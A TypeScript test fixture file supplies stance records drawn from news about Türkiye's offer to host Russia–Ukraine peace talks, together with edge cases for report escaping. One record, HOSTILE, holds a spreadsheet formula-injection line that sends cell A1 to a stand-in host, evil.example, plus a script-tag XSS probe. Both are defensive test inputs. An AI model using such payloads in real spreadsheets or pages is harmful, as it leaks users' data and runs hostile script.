// Stance records as classify would make them from the seed article (Anadolu, 24 Feb 2025) and a
// follow-up wire story, plus the hostile text a scraped feed can carry.
import type { ActorRef, InputError, StanceRecord } from '../../stages/schemas.ts';
import type { DocumentStat, RunInfo } from '../../stages/report/index.ts';

export const TUR: ActorRef = { id: 'TUR', name: 'Türkiye', country: 'TUR', role: null };
export const USA: ActorRef = { id: 'USA', name: 'United States', country: 'USA', role: null };
export const RUS: ActorRef = { id: 'RUS', name: 'Russia', country: 'RUS', role: null };
export const UKR: ActorRef = { id: 'UKR', name: 'Ukraine', country: 'UKR', role: null };
export const ISR: ActorRef = { id: 'ISR', name: 'Israel', country: 'ISR', role: null };
export const FIDAN: ActorRef = { id: 'TUR_FIDAN', name: 'Hakan Fidan', country: 'TUR', role: 'Foreign Minister' };
export const LAVROV: ActorRef = { id: 'RUS_LAVROV', name: 'Sergei Lavrov', country: 'RUS', role: 'Foreign Minister' };
export const ZELENSKYY: ActorRef = { id: 'UKR_ZELENSKYY', name: 'Volodymyr Zelenskyy', country: 'UKR', role: 'President' };

const SEED = 'seed-article';
const SEED_DATE = '2025-02-24';
const WIRE = 'wire/2025-03-03-ankara';
const WIRE_DATE = '2025-03-03';

function record(fields: Partial<StanceRecord> & Pick<StanceRecord, 'sentence_index' | 'sentence' | 'source' | 'stance' | 'target' | 'cue'>): StanceRecord {
  return {
    doc_id: SEED, doc_date: SEED_DATE, negated: false, quoted: false, attribution: 'subject', confidence: 0.9, cameo: null,
    ...fields,
  };
}

export const OFFER_TALKS = record({
  sentence_index: 0,
  sentence: 'Türkiye on Monday repeated its offer to host peace talks to end the war between Russia and Ukraine, which entered its fourth year.',
  source: TUR, stance: 'offer', target: null, cue: 'offer', confidence: 0.8, cameo: '030',
});

/** A sentence with commas, the first record of the brief. */
export const ANKARA_BACKS_US = record({
  sentence_index: 1,
  sentence: 'Ankara backs a United States initiative to end the conflict but negotiations should involve both warring sides, Foreign Minister Hakan Fidan told a joint press with his Russian counterpart Sergei Lavrov after meeting in Ankara.',
  source: TUR, stance: 'support', target: USA, cue: 'backs', confidence: 0.92, cameo: '051',
});

/** A quotation: double quotes that CSV must double. */
export const FIDAN_US_INITIATIVE = record({
  sentence_index: 3,
  sentence: '"We attach great importance to the new U.S. initiative as a result-oriented approach. We believe that a solution can be reached through negotiations in which both sides participate," Fidan told reporters.',
  source: FIDAN, stance: 'support', target: USA, cue: 'attach great importance', quoted: true, attribution: 'quote-speaker', confidence: 0.85,
});

export const ZELENSKYY_DENOUNCES = record({
  sentence_index: 8,
  sentence: 'Russian and U.S officials held talks in Saudi Arabia in a meeting denounced by Zelenskyy, who fears an agreement reached without him.',
  source: ZELENSKYY, stance: 'condemn', target: RUS, cue: 'denounced', attribution: 'passive', confidence: 0.7, cameo: '122',
});

export const FIDAN_CONDEMNS_ISRAEL = record({
  sentence_index: 35,
  sentence: 'He condemned Israel’s expansionism toward Jordan, Syria and Lebanon, noting this policy “destabilizes the region, opens it to all sorts of risks, including terrorism.”',
  source: FIDAN, stance: 'condemn', target: ISR, cue: 'condemned', attribution: 'pronoun', confidence: 0.88, cameo: '122',
});

/** Negated: written to the stances files, left out of every count. */
export const TUR_NO_SANCTIONS = record({
  doc_id: WIRE, doc_date: WIRE_DATE, sentence_index: 2,
  sentence: 'Türkiye does not support Western-led sanctions on Moscow, the ministry said.',
  source: TUR, stance: 'support', target: RUS, cue: 'support', negated: true, confidence: 0.75,
});

/** A line break inside the sentence, a leading hyphen (a formula start) and a cue starting with "@". */
export const LAVROV_WELCOMES = record({
  doc_id: WIRE, doc_date: WIRE_DATE, sentence_index: 0,
  sentence: '- Lavrov welcomed Ankara\'s offer, saying:\n"Our Turkish friends can count on us."',
  source: LAVROV, stance: 'support', target: TUR, cue: '@welcomed', attribution: 'subject', confidence: 0.8,
});

/** A scraped line that is a spreadsheet formula, and a <script> an HTML report must not run. */
export const HOSTILE = record({
  doc_id: WIRE, doc_date: WIRE_DATE, sentence_index: 5,
  sentence: '=HYPERLINK("http://evil.example/?q="&A1,"Russia condemns Ukraine") <script>alert(1)</script>',
  source: RUS, stance: 'condemn', target: UKR, cue: 'condemns', confidence: 0.6,
});

export const WIRE_TUR_OFFER = record({
  doc_id: WIRE, doc_date: WIRE_DATE, sentence_index: 1,
  sentence: 'Türkiye offered Ukraine and Russia a venue in Istanbul for a new round of talks.',
  source: TUR, stance: 'offer', target: UKR, cue: 'offered', confidence: 0.9, cameo: '030',
});

/** An undated statement: counted, but absent from the timeline. */
export const UNDATED = record({
  doc_id: 'statement-undated', doc_date: null, sentence_index: 0,
  sentence: 'Ukraine condemns the strike on Odesa.',
  source: UKR, stance: 'condemn', target: RUS, cue: 'condemns', confidence: 0.95, cameo: '122',
});

export const RECORDS: StanceRecord[] = [
  HOSTILE, FIDAN_CONDEMNS_ISRAEL, UNDATED, ANKARA_BACKS_US, TUR_NO_SANCTIONS, OFFER_TALKS,
  LAVROV_WELCOMES, ZELENSKYY_DENOUNCES, WIRE_TUR_OFFER, FIDAN_US_INITIATIVE,
];

export const DOCUMENTS: DocumentStat[] = [
  { doc_id: WIRE, doc_date: WIRE_DATE, sentences: 6 },
  { doc_id: SEED, doc_date: SEED_DATE, sentences: 38 },
  { doc_id: 'statement-undated', doc_date: null, sentences: 1 },
];

export const ERRORS: InputError[] = [
  { file: 'input/feed.jsonl', line: 7, code: 'INVALID_FIELD', reason: 'text: expected string, received null' },
  { file: 'input/broken.txt', code: 'INVALID_UTF8', reason: 'not UTF-8 <b>bytes</b>' },
];

export const STANCES = ['support', 'condemn', 'offer'];
/** The shipped lexicon's polarities. */
export const POLARITY = { support: 1, condemn: -1, offer: 1 };

export function runInfo(started_at = '2025-03-04T09:00:00.000Z', duration_ms = 1234): RunInfo {
  return {
    started_at,
    finished_at: new Date(Date.parse(started_at) + duration_ms).toISOString(),
    duration_ms,
    documents_processed: 2,
    documents_reused: 1,
  };
}

export function reportInput(run = runInfo()) {
  return { records: RECORDS, documents: DOCUMENTS, errors: ERRORS, stances: STANCES, polarity: POLARITY, run };
}

/**
 * `count` variations of RECORDS, in a scrambled order: few documents, sentences and cues, so that many records
 * tie on the sort keys and only the whole record orders them; actors spelled two ways and documents dated two
 * ways, so that which record comes first decides a name or a date.
 */
export function manyRecords(count: number, seed = 1): StanceRecord[] {
  let state = seed;
  const pick = (n: number) => {
    state = (state * 1103515245 + 12345) % 2 ** 31;
    return state % n;
  };
  const respell = (actor: ActorRef | null) => (actor && pick(4) === 0 ? { ...actor, name: `${actor.name} (alt)` } : actor);
  return Array.from({ length: count }, () => {
    const base = RECORDS[pick(RECORDS.length)]!;
    return {
      ...base,
      doc_id: `doc-${pick(4)}`,
      doc_date: pick(5) === 0 ? null : `2025-03-0${1 + pick(3)}`,
      sentence_index: pick(3),
      source: respell(base.source)!,
      target: respell(base.target),
      negated: pick(6) === 0,
      quoted: pick(2) === 0,
      confidence: [0.5, 0.75, 0.9][pick(3)]!,
    };
  });
}
